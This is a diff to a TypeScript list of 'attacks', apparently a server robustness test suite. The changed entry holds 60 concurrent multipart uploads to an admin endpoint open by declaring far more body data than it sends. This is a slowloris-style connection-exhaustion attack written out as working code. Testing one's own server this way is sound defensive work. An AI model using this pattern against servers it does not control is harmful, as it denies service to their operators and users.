@@ -90,13 +90,13 @@ export const attacks: Attack[] = [
     },
   },
   {
-    name: "sixty forms with a file that stand still",
-    send: (target) =>
-      holding(target, 60, () => {
-        const headers = { "Content-Type": multipart, "Content-Length": 60 * mega };
-        const file = part("image", "x".repeat(2.5 * mega), '; filename="a.png"');
-        return head("/admin?new", headers) + part("title", "x") + file;
-      }),
+    name: "sixty forms with a file that stand still until they are given up",
+    send(target) {
+      const headers = { "Content-Type": multipart, "Content-Length": 60 * mega };
+      const file = part("image", "x".repeat(2.5 * mega), '; filename="a.png"');
+      const begun = head("/admin?new", headers) + part("title", "x") + file;
+      return atOnce(60, () => line(target, begun).answered);
+    },
   },
   {
     name: "two hundred forms that come letter by letter",
